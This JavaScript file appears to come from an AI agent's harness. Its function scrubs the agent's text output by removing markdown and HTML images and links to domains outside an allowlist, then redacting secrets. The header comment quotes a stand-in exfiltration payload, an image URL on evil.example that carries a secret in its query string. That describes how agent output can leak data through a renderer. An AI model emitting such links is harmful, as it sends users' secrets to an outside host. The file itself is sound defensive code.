// @ts-check
// What leaves the agent as text (the final answer, escalation summaries) is scrubbed: secrets are
// redacted, and markdown images and links to domains outside the egress allowlist are removed,
// because a renderer fetching `![](https://evil.example/?q=<secret>)` is an exfiltration channel.

/**
 * @param {string} text
 * @param {import('./redact.js').Redactor} redactor
 * @param {readonly string[]} allowDomains
 */
export function scrubOutput(text, redactor, allowDomains) {
  const allowed = (/** @type {string} */ url) => {
    try {
      const host = new URL(url).hostname.toLowerCase();
      return allowDomains.some((d) => host === d || host.endsWith(`.${d}`));
    } catch {
      // Relative or malformed: nothing is fetched from another domain.
      return !/^[a-z][a-z0-9+.-]*:|^\/\//i.test(url);
    }
  };
  const out = text
    .replace(/!\[[^\]]*\]\(\s*<?([^)\s>]+)>?(?:\s+["'(][^)]*)?\)/g, (m, url) => (allowed(url) ? m : '[image removed]'))
    .replace(/\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+["'(][^)]*)?\)/g, (m, label, url) => (allowed(url) ? m : label))
    .replace(/^[ \t]*\[[^\]]+\]:[ \t]*<?(\S+?)>?(?:[ \t].*)?$/gm, (m, url) => (allowed(url) ? m : ''))
    .replace(/<img\b[^>]*\bsrc\s*=\s*["']?([^"'\s>]+)[^>]*>/gi, (m, url) => (allowed(url) ? m : '[image removed]'));
  return redactor.redactText(out);
}
